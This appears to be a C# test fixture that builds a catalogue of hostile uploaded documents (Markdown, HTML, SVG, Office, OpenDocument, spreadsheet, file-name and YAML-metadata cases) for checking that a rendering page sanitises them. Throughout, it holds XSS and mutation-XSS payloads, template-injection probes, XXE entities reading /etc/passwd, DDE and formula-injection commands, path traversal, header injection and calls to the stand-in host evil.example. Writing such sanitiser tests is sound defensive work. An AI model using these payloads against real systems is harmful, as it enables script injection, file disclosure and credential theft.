using System.Text;
using static ToolKit.TestSupport.Files;

namespace ToolKit.TestSupport;

/// <summary>A document that tries to do something on the page that shows it.</summary>
/// <param name="Kind">Where the attempt lies: a format, <c>name</c> or <c>metadata</c>.</param>
/// <param name="Name">The file name with its extension.</param>
/// <param name="What">What it tries, in a few words.</param>
/// <param name="Content">The file.</param>
public sealed record HostileDocument(string Kind, string Name, string What, byte[] Content)
{
    /// <summary>Where attempts send what they find, or load from: no page may ask it for anything.</summary>
    public const string Host = "evil.example";

    /// <summary>What templates make of <c>1337*1337</c>, which many of them hold: no page may show it.</summary>
    public const string Product = "1787569";

    private const string Sum = "1337*1337";

    // Of the languages templates are written in, on servers and in browsers.
    private static readonly string[] Templates = ["{{" + Sum + "}}", "${" + Sum + "}", "@(" + Sum + ")", "<%= " + Sum + " %>", "#{" + Sum + "}", "{{constructor.constructor('alert(1)')()}}", "[[" + Sum + "]]", "@{" + Sum + "}"];

    /// <summary>Every one of them; a test may be written for each.</summary>
    public static IReadOnlyList<HostileDocument> All { get; } = [.. Markdown(), .. Html(), .. Svg(), .. Word(), .. OpenDocument(), .. Sheets(), .. Names(), .. Metadata()];

    public override string ToString() => $"{Kind}: {What}";

    private static IEnumerable<HostileDocument> Markdown()
    {
        (string What, string Text)[] rows =
        [
            ("a script", "<script>alert(1)</script>"),
            ("a script in a paragraph", "Text <script src=//evil.example/a.js></script> Text"),
            ("a script behind an open comment", "<!-- --!><script>alert(1)</script>"),
            ("a script in a list", "- <script>alert(1)</script>"),
            ("a script in a table", "| a |\n|---|\n| <script>alert(1)</script> |"),
            ("a script in a heading", "# <script>alert(1)</script>"),
            ("a script in a footnote", "Text[^1]\n\n[^1]: <script>alert(1)</script>"),
            ("a script in a definition", "Wort\n:   <script>alert(1)</script>"),
            ("a script out of code", "`</code><script>alert(1)</script>`"),
            ("a script out of a code block", "```\n</code></pre><script>alert(1)</script>\n```"),
            ("a script as the language of code", "```\"><script>alert(1)</script>\nx\n```"),
            ("a style", "<style>*{background:url(//evil.example/a)}</style>"),
            ("a style attribute", "<p style=\"position:fixed;inset:0\">x</p>"),
            ("an import of styles", "<style>@import '//evil.example/a.css';</style>"),
            ("a frame", "<iframe src=\"javascript:alert(1)\"></iframe>"),
            ("a frame with a document in it", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
            ("an object", "<object data=\"javascript:alert(1)\"></object>"),
            ("an embedded file", "<embed src=\"//evil.example/a.swf\">"),
            ("a base address", "<base href=\"//evil.example/\">"),
            ("a refresh", "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example/\">"),
            ("a form", "<form action=\"//evil.example/\"><input name=\"password\"><button>Anmelden</button></form>"),
            ("an event on a picture", "<img src=x onerror=alert(1)>"),
            ("an event on SVG", "<svg onload=alert(1)>"),
            ("an event on an unknown element", "<x onclick=alert(1)>Text</x>"),
            ("an event that needs no one", "<details open ontoggle=alert(1)>x</details>"),
            ("a link to a script", "[x](javascript:alert(1))"),
            ("a link to a script in capitals", "[x](JaVaScRiPt:alert(1))"),
            ("a link to a script behind entities", "[x](&#106;avascript&colon;alert(1))"),
            ("a link to a script behind a line break", "[x](<java&#10;script:alert(1)>)"),
            ("a link to a script behind a tab", "[x](java&Tab;script:alert(1))"),
            ("a link to a script behind a control character", "[x](&#1;javascript:alert(1))"),
            ("a link to Visual Basic", "[x](vbscript:msgbox(1))"),
            ("a link to data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
            ("a link to a blob", "[x](blob:https://evil.example/1)"),
            ("a link to a file", "[x](file:///etc/passwd)"),
            ("a link to another host without scheme", "[x](//evil.example/)"),
            ("a link to another host by backslashes", "[x](\\\\\\\\evil.example/)"),
            ("a script as a link's title", "[x](/a \"\\\" onmouseover=alert(1) x=\\\"\")"),
            ("a script in an address in angles", "<javascript:alert(1)>"),
            ("a reference to a script", "[x][1]\n\n[1]: javascript:alert(1)"),
            ("a reference with a script as title", "[x][1]\n\n[1]: /a '\"><script>alert(1)</script>'"),
            ("a picture that is a script", "![x](javascript:alert(1))"),
            ("a picture of another host", "![x](https://evil.example/pixel)"),
            ("a picture of SVG with a script", "![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)"),
            ("a script as what a picture shows", "![\"onerror=alert(1) x=\"](a.png)"),
            ("an address that leaves its attribute", "[x](https://example.org/\"onclick=\"alert(1))"),
            ("attributes by extension", "# Titel {onclick=alert(1) .a #b}"),
            ("an id for one of the page", "# main"),
            ("an id for one of the page in HTML", "<p id=\"main\" name=\"cookie\">x</p>"),
            ("brackets without end", new string('[', 500) + "x](javascript:alert(1))"),
            ("quotes nested 100 deep around a script", string.Concat(Enumerable.Repeat("> ", 100)) + "<script>alert(1)</script>"),
            ("the direction of writing turned", "Rechnung\u202Efdp.exe [beispiel\u202E](https://example.org)"),
            ("the direction of writing kept for what follows", "\u2067Text ohne Ende"),
        ];
        return rows.Select(row => new HostileDocument("Markdown", "a.md", row.What, Encoding.UTF8.GetBytes(row.Text)))
            .Concat(Templates.Select(template => new HostileDocument("Markdown", "a.md", "template " + template, Encoding.UTF8.GetBytes($"# {template}\n\nText {template}, [{template}](/{Uri.EscapeDataString(template)})"))));
    }

    private static IEnumerable<HostileDocument> Html()
    {
        (string What, string Text)[] rows =
        [
            ("a script", "<p>Text<script>alert(1)</script>"),
            ("a script of another host", "<script src=https://evil.example/a.js></script>"),
            ("a module", "<script type=module>import 'https://evil.example/a.js'</script>"),
            ("a script whose tag has a slash", "<script/x>alert(1)</script/x>"),
            ("a script without end", "<script>alert(1)"),
            ("a script in a script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
            ("a script behind a comment that ends early", "<!--><script>alert(1)</script>-->"),
            ("a script behind a wrong comment", "<! --><script>alert(1)</script>"),
            ("a script out of a title", "<title><p title=\"</title><script>alert(1)</script>\">"),
            ("a script out of a text field", "<textarea><p title=\"</textarea><script>alert(1)</script>\">"),
            ("a script out of noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
            ("a script out of MathML and a style", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"),
            ("a script out of SVG and a style", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
            ("a script out of a form in a form", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
            ("a script in a template", "<template><script>alert(1)</script></template>"),
            ("a script in a shadow tree", "<div><template shadowrootmode=open><script>alert(1)</script></template></div>"),
            ("a script in XML data", "<xml><![CDATA[<script>alert(1)</script>]]></xml>"),
            ("a script in UTF-7", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
            ("a processing instruction", "<?xml-stylesheet href=\"javascript:alert(1)\"?><p>x"),
            ("an event on the body", "<body onload=alert(1)><p>x"),
            ("an event on a picture", "<img src=x onerror=alert(1)>"),
            ("an event without quotes and blanks", "<img/src=x/onerror=alert(1)>"),
            ("an event behind a quote in the name", "<img \"\"\"><script>alert(1)</script>\">"),
            ("an event on a marquee", "<marquee onstart=alert(1)>x</marquee>"),
            ("an event of an animation", "<p style=\"animation:x\" onanimationstart=alert(1)>x"),
            ("an event on focus", "<input autofocus onfocus=alert(1)>"),
            ("an event on a film", "<video><source onerror=alert(1)></video>"),
            ("a popover", "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>"),
            ("a link to a script", "<a href=javascript:alert(1)>x</a>"),
            ("a link to a script with blanks before it", "<a href=\" \t\n javascript:alert(1)\">x</a>"),
            ("a link to a script with a line break in it", "<a href=\"java\nscript:alert(1)\">x</a>"),
            ("a link to a script by numbers", "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>"),
            ("a link that reports", "<a href=https://example.org ping=https://evil.example>x</a>"),
            ("a link that opens a window", "<a href=https://example.org target=_top>x</a>"),
            ("a link in a map", "<map name=x><area href=javascript:alert(1) shape=default></map><img usemap=#x src=a>"),
            ("a picture that tells who reads", "<img src=https://evil.example/pixel>"),
            ("pictures of several sizes", "<img srcset=\"https://evil.example/a 1x\">"),
            ("a picture for wide screens", "<picture><source srcset=https://evil.example/a><img></picture>"),
            ("a background", "<table background=https://evil.example/a><tr><td background=javascript:alert(1)>x"),
            ("a style", "<style>@import url(https://evil.example/a.css);body{display:none}</style>"),
            ("a style attribute", "<div style=\"position:fixed;inset:0;background:url(https://evil.example)\">x</div>"),
            ("a style sheet", "<link rel=stylesheet href=https://evil.example/a.css>"),
            ("a frame", "<iframe src=https://evil.example></iframe>"),
            ("a frame set", "<frameset><frame src=javascript:alert(1)></frameset>"),
            ("an object", "<object data=data:text/html,<script>alert(1)</script>></object>"),
            ("an applet", "<applet code=https://evil.example/a.class></applet>"),
            ("a form over the page", "<form action=https://evil.example><input name=password type=password><input type=submit></form>"),
            ("a button for another form", "<button form=x formaction=https://evil.example>x</button>"),
            ("a refresh", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">"),
            ("a base address", "<base href=https://evil.example/><a href=x>x</a>"),
            ("names that hide the page's own", "<a id=location name=cookie></a><form id=document></form>"),
            ("tags that end the page's own", "</main></body></html><p>x"),
            ("elements nested 5,000 deep", string.Concat(Enumerable.Repeat("<div>", 5_000)) + "<script>alert(1)</script>"),
        ];
        return rows.Select(row => new HostileDocument("HTML", "a.html", row.What, Encoding.UTF8.GetBytes(row.Text)));
    }

    private static IEnumerable<HostileDocument> Svg()
    {
        (string What, string Text)[] rows =
        [
            ("a script", "<script>alert(1)</script>"),
            ("a script of another host", "<script href=\"https://evil.example/a.js\"/>"),
            ("a script in data", "<script><![CDATA[alert(1)]]></script>"),
            ("an event when it is shown", "<g onload=\"alert(1)\"/>"),
            ("an event of an animation", "<animate onbegin=\"alert(1)\" attributeName=\"x\" dur=\"1s\"/>"),
            ("a link to a script", "<a href=\"javascript:alert(1)\"><text y=\"20\">x</text></a>"),
            ("a link to a script in the old way", "<a xlink:href=\"javascript:alert(1)\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><text y=\"20\">x</text></a>"),
            ("an animation that makes a link one to a script", "<a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><text y=\"20\">x</text></a>"),
            ("HTML in it", "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:alert(1)\"/></foreignObject>"),
            ("a frame of another host in it", "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://evil.example/\"/></foreignObject>"),
            ("HTML with an event in it", "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\" onload=\"alert(1)\"/></foreignObject>"),
            ("another file used", "<use href=\"https://evil.example/a.svg#x\"/>"),
            ("data used", "<use href=\"data:image/svg+xml;base64,PHN2Zy8+#x\"/>"),
            ("a picture of another host", "<image href=\"https://evil.example/pixel\"/>"),
            ("a style of another host", "<style>@import 'https://evil.example/a.css';</style>"),
            ("a script out of a style", "<style>&lt;/style&gt;<img src=\"x\" onerror=\"alert(1)\"/></style>"),
            ("a handler", "<handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">alert(1)</handler>"),
        ];
        foreach (var (what, text) in rows)
            yield return new HostileDocument("SVG", "a.svg", what, Encoding.UTF8.GetBytes($"<svg xmlns=\"http://www.w3.org/2000/svg\">{text}</svg>"));
        yield return new HostileDocument("SVG", "a.svg", "an event on itself", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"u8.ToArray());
        yield return new HostileDocument("SVG", "a.svg", "a style sheet before it", "<?xml-stylesheet href=\"javascript:alert(1)\" type=\"text/css\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>"u8.ToArray());
        yield return new HostileDocument("SVG", "a.svg", "an entity of another file", "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>"u8.ToArray());
        yield return new HostileDocument("SVG", "a.svg", "an entity that is a script", "<!DOCTYPE svg [<!ENTITY x \"<script>alert(1)</script>\">]><svg xmlns=\"http://www.w3.org/2000/svg\">&x;</svg>"u8.ToArray());
    }

    private static IEnumerable<HostileDocument> Word()
    {
        const string script = "&lt;script&gt;alert(1)&lt;/script&gt;";
        (string What, byte[] Content)[] rows =
        [
            ("a script as text", Docx(P(script))),
            ("a script as a heading", Docx(P(script, "Heading1"))),
            ("a script in pieces", Docx("<w:p><w:r><w:t>&lt;scr</w:t></w:r><w:r><w:t>ipt&gt;alert(1)&lt;/script&gt;</w:t></w:r></w:p>")),
            ("a script in character data", Docx("<w:p><w:r><w:t><![CDATA[<script>alert(1)</script>]]></w:t></w:r></w:p>")),
            ("a script as an element", Docx("<script>alert(1)</script><w:p><w:r><script>alert(1)</script><w:t>x</w:t></w:r></w:p>")),
            ("HTML as an element", Docx("<w:p><w:r><w:t>x<img xmlns=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"alert(1)\"/></w:t></w:r></w:p>")),
            ("a table that is ended", Docx($"<w:tbl><w:tr><w:tc>{P("&lt;/td&gt;&lt;/table&gt;" + script)}</w:tc></w:tr></w:tbl>")),
            ("a note that is a script", Docx("<w:p><w:r><w:t>x</w:t><w:footnoteReference w:id=\"2\"/></w:r></w:p>", null, ("word/footnotes.xml", WordPart("footnotes", $"<w:footnote w:id=\"2\">{P(script)}</w:footnote>")))),
            ("a link to a script", Docx(WordLink("x", "x"), [("x", "hyperlink", "javascript:alert(1)")])),
            ("a link to a script in capitals", Docx(WordLink("x", "x"), [("x", "hyperlink", "JAVASCRIPT:alert(1)")])),
            ("a link to a script with a line break", Docx(WordLink("x", "x"), [("x", "hyperlink", "java&#10;script:alert(1)")])),
            ("a link to a script with a tab before it", Docx(WordLink("x", "x"), [("x", "hyperlink", "&#9;javascript:alert(1)")])),
            ("a link to Visual Basic", Docx(WordLink("x", "x"), [("x", "hyperlink", "vbscript:msgbox(1)")])),
            ("a link to data", Docx(WordLink("x", "x"), [("x", "hyperlink", "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;")])),
            ("a link to a file", Docx(WordLink("x", "x"), [("x", "hyperlink", "file:///C:/Windows/System32/calc.exe")])),
            ("a link to a share", Docx(WordLink("x", "x"), [("x", "hyperlink", "\\\\evil.example\\share\\a.exe")])),
            ("a link to a program", Docx(WordLink("x", "x"), [("x", "hyperlink", "ms-word:ofe|u|https://evil.example/a.docx")])),
            ("a link to another host without scheme", Docx(WordLink("x", "x"), [("x", "hyperlink", "//evil.example/")])),
            ("a link to the name of a picture", Docx(WordLink("x", "x"), [("x", "hyperlink", "picture-1")])),
            ("a link that leaves its attribute", Docx(WordLink("x", "x"), [("x", "hyperlink", "https://example.org/&quot; onclick=&quot;alert(1)")])),
            ("a link into the page that leaves its attribute", Docx("<w:p><w:hyperlink w:anchor=\"x&quot; onclick=&quot;alert(1)\"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>")),
            ("a mark that leaves its attribute", Docx("<w:p><w:bookmarkStart w:name=\"x&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\"/><w:r><w:t>x</w:t></w:r></w:p>")),
            ("a mark that hides one of the page", Docx("<w:p><w:bookmarkStart w:name=\"main\"/><w:r><w:t>x</w:t></w:r></w:p>")),
            ("a field that is a script", Docx("<w:p><w:fldSimple w:instr=\"HYPERLINK javascript:alert(1)\"><w:r><w:t>x</w:t></w:r></w:fldSimple><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>")),
            ("a picture that is SVG", Docx(WordPicture("x", "x"), [("x", "image", "media/x.svg")], null, ("word/media/x.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"u8.ToArray()))),
            ("a picture that is HTML", Docx(WordPicture("x", "x"), [("x", "image", "media/x.png")], null, ("word/media/x.png", "<script>alert(1)</script>"u8.ToArray()))),
            ("a picture with a script behind its mark", Docx(WordPicture("x", "x"), [("x", "image", "media/x.png")], null, ("word/media/x.png", [.. Png(), .. "<script>alert(1)</script>"u8]))),
            ("a script as what a picture shows", Docx(WordPicture("x", "&quot; onerror=&quot;alert(1)"), [("x", "image", "media/x.png")], null, ("word/media/x.png", Png()))),
            ("a script as what a picture shows that is left out", Docx(WordPicture("x", script), [])),
            ("the type of a list that leaves its attribute", Docx("<w:p><w:pPr><w:numPr><w:ilvl w:val=\"0\"/><w:numId w:val=\"1\"/></w:numPr></w:pPr><w:r><w:t>x</w:t></w:r></w:p>", null, ("word/numbering.xml", WordPart("numbering", "<w:abstractNum w:abstractNumId=\"1\"><w:lvl w:ilvl=\"0\"><w:numFmt w:val=\"decimal&quot;&gt;\"/><w:lvlText w:val=\"&lt;script&gt;alert(1)&lt;/script&gt;%1\"/></w:lvl></w:abstractNum><w:num w:numId=\"1\"><w:abstractNumId w:val=\"1\"/></w:num>")))),
            ("a style whose name is a script", Docx("<w:p><w:pPr><w:pStyle w:val=\"&lt;script&gt;\"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>", null, ("word/styles.xml", WordPart("styles", "<w:style w:styleId=\"&lt;script&gt;\"><w:name w:val=\"heading 1\"/></w:style>")))),
            ("HTML as a part", Docx("<w:altChunk r:id=\"x\"/>" + P("x"), [("x", "aFChunk", "a.html")], null, ("word/a.html", "<script>alert(1)</script>"u8.ToArray()))),
            ("an entity", Zip([.. Package("word/document.xml", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>")])),
            ("the direction of writing turned", Docx(P("Rechnung\u202Efdp.exe"))),
        ];
        return rows.Select(row => new HostileDocument("DOCX", "a.docx", row.What, row.Content))
            .Concat(Templates.Select(template => new HostileDocument("DOCX", "a.docx", "template " + template, Docx(P(Escaped(template), "Heading1") + P(Escaped(template))))));
    }

    private static IEnumerable<HostileDocument> OpenDocument()
    {
        const string script = "&lt;script&gt;alert(1)&lt;/script&gt;";
        (string What, string Body)[] rows =
        [
            ("a script as text", $"<text:p>{script}</text:p>"),
            ("a script as a heading", $"<text:h text:outline-level=\"1\">{script}</text:h>"),
            ("a script as an element", "<office:scripts><script>alert(1)</script></office:scripts><text:p>x<text:script>alert(1)</text:script></text:p>"),
            ("HTML as an element", "<text:p>x<img xmlns=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"alert(1)\"/></text:p>"),
            ("an event", "<text:p>x<office:event-listeners><script:event-listener xmlns:script=\"x\" xlink:href=\"javascript:alert(1)\"/></office:event-listeners></text:p>"),
            ("a link to a script", "<text:p><text:a xlink:href=\"javascript:alert(1)\">x</text:a></text:p>"),
            ("a link to a script behind an entity", "<text:p><text:a xlink:href=\"java&#x09;script:alert(1)\">x</text:a></text:p>"),
            ("a link to data", "<text:p><text:a xlink:href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</text:a></text:p>"),
            ("a link to a macro", "<text:p><text:a xlink:href=\"vnd.sun.star.script:a.py$b?language=Python&amp;location=share\">x</text:a></text:p>"),
            ("a link to another host without scheme", "<text:p><text:a xlink:href=\"//evil.example/\">x</text:a></text:p>"),
            ("a link that leaves its attribute", "<text:p><text:a xlink:href=\"https://example.org/&quot; onclick=&quot;alert(1)\">x</text:a></text:p>"),
            ("a link that opens a window", "<text:p><text:a xlink:href=\"https://example.org/\" office:target-frame-name=\"_top\">x</text:a></text:p>"),
            ("a mark that leaves its attribute", "<text:p><text:bookmark text:name=\"x&quot;&gt;&lt;script&gt;\"/>x</text:p>"),
            ("a picture of another host", "<text:p><draw:frame><draw:image xlink:href=\"https://evil.example/pixel.png\"/></draw:frame></text:p>"),
            ("a picture out of the package", "<text:p><draw:frame><draw:image xlink:href=\"../../../../etc/passwd\"/></draw:frame></text:p>"),
            ("a script as what a picture shows", $"<text:p><draw:frame><draw:image xlink:href=\"x\"/><svg:desc>{script}</svg:desc></draw:frame></text:p>"),
            ("a frame of another host", "<text:p><draw:frame><draw:floating-frame xlink:href=\"https://evil.example/\"/><draw:object xlink:href=\"javascript:alert(1)\"/><draw:applet xlink:href=\"https://evil.example/\"/></draw:frame>x</text:p>"),
            ("a note that is a script", $"<text:p>x<text:note><text:note-body><text:p>{script}</text:p></text:note-body></text:note></text:p>"),
            ("a style whose name is a script", "<text:p text:style-name=\"&quot;&gt;&lt;script&gt;\">x</text:p><text:list text:style-name=\"&quot;&gt;&lt;script&gt;\"><text:list-item><text:p>x</text:p></text:list-item></text:list>"),
            ("a comment with a script", $"<text:p>x<office:annotation><text:p>{script}</text:p></office:annotation></text:p>"),
            ("the direction of writing turned", "<text:p>Rechnung\u202Efdp.exe</text:p>"),
        ];
        return rows.Select(row => new HostileDocument("ODT", "a.odt", row.What, Odf("text", row.Body)))
            .Append(new HostileDocument("ODT", "a.odt", "an entity of another file", Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", OdfContent("text", "<text:p>&x;</text:p>", "<!DOCTYPE x [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>")))))
            .Append(new HostileDocument("ODT", "a.fodt", "a picture in data", Encoding.UTF8.GetBytes(FlatOdf("text", "<text:p><draw:frame><draw:image><office:binary-data>PHNjcmlwdD4=</office:binary-data></draw:image></draw:frame></text:p>"))))
            .Concat(Templates.Take(4).Select(template => new HostileDocument("ODT", "a.odt", "template " + template, Odf("text", $"<text:p>{Escaped(template)}</text:p>"))));
    }

    private static IEnumerable<HostileDocument> Sheets()
    {
        const string script = "&lt;script&gt;alert(1)&lt;/script&gt;";
        yield return new HostileDocument("XLSX", "a.xlsx", "a script as a text", Xlsx([("S", "<row><c t=\"s\"><v>0</v></c></row>")], $"<si><t>{script}</t></si>"));
        yield return new HostileDocument("XLSX", "a.xlsx", "a script in a cell", Xlsx(("S", $"<row><c t=\"inlineStr\"><is><t>{script}</t></is></c></row>")));
        yield return new HostileDocument("XLSX", "a.xlsx", "a script as a number", Xlsx(("S", $"<row><c><v>{script}</v></c></row>")));
        yield return new HostileDocument("XLSX", "a.xlsx", "a script as the name of a sheet", Xlsx((script, "<row><c><v>1</v></c></row>")));
        yield return new HostileDocument("XLSX", "a.xlsx", "a formula that is a link to a script", Xlsx(("S", "<row><c t=\"str\"><f>HYPERLINK(\"javascript:alert(1)\")</f><v>x</v></c></row>")));
        yield return new HostileDocument("XLSX", "a.xlsx", "a formula that starts a program", Xlsx(("S", "<row><c t=\"str\"><f>cmd|' /C calc'!A0</f><v>=cmd|' /C calc'!A0</v></c></row>")));
        yield return new HostileDocument("XLSX", "a.xlsx", "addresses that leave their attribute", Xlsx(("S", "<row r=\"1&quot; onclick=&quot;alert(1)\"><c r=\"A&quot; onclick=&quot;alert(1)\"><v>1</v></c></row>")));
        yield return new HostileDocument("XLSX", "a.xlsx", "a template in a cell", Xlsx(("S", $"<row><c t=\"inlineStr\"><is><t>{Templates[0]}</t></is></c></row>")));
        yield return new HostileDocument("ODS", "a.ods", "a script in a cell", Odf("spreadsheet", $"<table:table table:name=\"S\"><table:table-row><table:table-cell><text:p>{script}</text:p></table:table-cell></table:table-row></table:table>"));
        yield return new HostileDocument("ODS", "a.ods", "a script as the name of a sheet", Odf("spreadsheet", $"<table:table table:name=\"{script}\"><table:table-row><table:table-cell><text:p>x</text:p></table:table-cell></table:table-row></table:table>"));
        yield return new HostileDocument("ODS", "a.ods", "spans that leave their attribute", Odf("spreadsheet", "<table:table table:name=\"S\"><table:table-row><table:table-cell table:number-columns-spanned=\"2&quot; onclick=&quot;alert(1)\"><text:p>x</text:p></table:table-cell></table:table-row></table:table>"));
        yield return new HostileDocument("CSV", "a.csv", "a script in a cell", "a;b\n<script>alert(1)</script>;\"</td></table><img src=x onerror=alert(1)>\"\n"u8.ToArray());
        yield return new HostileDocument("CSV", "a.csv", "a script as the name of a column", "<script>alert(1)</script>;b\n1;2\n"u8.ToArray());
        yield return new HostileDocument("text", "a.txt", "a script", "<script>alert(1)</script></pre><img src=x onerror=alert(1)>"u8.ToArray());
        yield return new HostileDocument("PPTX", "a.pptx", "a script as a title", Pptx((Shape("title", script) + Shape("body", script), script)));
        yield return new HostileDocument("ZIP", "a.zip", "a script as the name of a member", Zip(("<script>alert(1)</script>.txt", "x"), ("../../\"onclick=\"alert(1).txt", "x")));
    }

    /// <summary>Names a library takes: those with &lt; &gt; " / \ | ? * or control characters it refuses.</summary>
    private static IEnumerable<HostileDocument> Names()
    {
        (string What, string Name)[] rows =
        [
            ("a template", "{{1337+1337}}.md"),
            ("a template of pages", "@(1337+1337).md"),
            ("a template literal", "${alert(1)}.md"),
            ("an event behind an apostrophe", "x' onmouseover='alert(1).md"),
            ("an event behind a grave accent", "x` onmouseover=`alert(1).md"),
            ("entities", "&lt;script&gt;alert(1)&lt;script&gt;.md"),
            ("an entity of an apostrophe", "x&apos; onclick=alert(1).md"),
            ("a link to a script", "javascript&colon;alert(1).md"),
            ("Markdown", "[x](javascript&colon;alert(1)).md"),
            ("percent signs", "%3Cscript%3Ealert(1)%3C%2Fscript%3E.md"),
            ("a line break of headers", "x%0d%0aSet-Cookie%3A a=b.md"),
            ("two extensions", "a.html.md"),
            ("a question as its end", "a.md;.html"),
        ];
        return rows.Select(row => new HostileDocument("name", row.Name, row.What, "# Titel\n\nText\n"u8.ToArray()));
    }

    private static IEnumerable<HostileDocument> Metadata()
    {
        const string script = "&lt;script&gt;alert(1)&lt;/script&gt;";
        (string What, string Value)[] rows =
        [
            ("a script", "<script>alert(1)</script>"),
            ("an event", "\\\" onmouseover=\\\"alert(1)"),
            ("a picture", "<img src=x onerror=alert(1)>"),
            ("a template", Templates[0]),
            ("a template of pages", Templates[2]),
            ("a link to a script", "javascript:alert(1)"),
            ("the direction of writing turned", "Rechnung\\u202Efdp.exe"),
        ];
        return rows.Select(row => new HostileDocument("metadata", "a.md", row.What + " as title, description and licence", Encoding.UTF8.GetBytes($"---\ntitle: \"{row.Value}\"\ndescription: \"{row.Value}\"\nlicence: \"{row.Value}\"\n---\n\nText\n")))
            .Append(new HostileDocument("metadata", "a.md", "a type of YAML", "---\ntitle: !!js/function 'function(){alert(1)}'\n---\n\nText\n"u8.ToArray()))
            .Append(new HostileDocument("metadata", "a.md", "references that grow", Encoding.UTF8.GetBytes("---\na: &a [x,x]\n" + string.Concat(Enumerable.Range(0, 30).Select(i => $"b{i}: &{(char)('b' + (i % 20))} [*a,*a]\n")) + "title: *a\n---\n\nText\n")))
            .Append(new HostileDocument("metadata", "a.docx", "a script as the title of DOCX", Docx(P("Text"), script)))
            .Append(new HostileDocument("metadata", "a.html", "a script as the title of HTML", "<title>&lt;script&gt;alert(1)&lt;/script&gt;</title><p>Text"u8.ToArray()));
    }

    private static string Escaped(string text) => text.Replace("&", "&amp;", StringComparison.Ordinal).Replace("<", "&lt;", StringComparison.Ordinal).Replace(">", "&gt;", StringComparison.Ordinal);
}
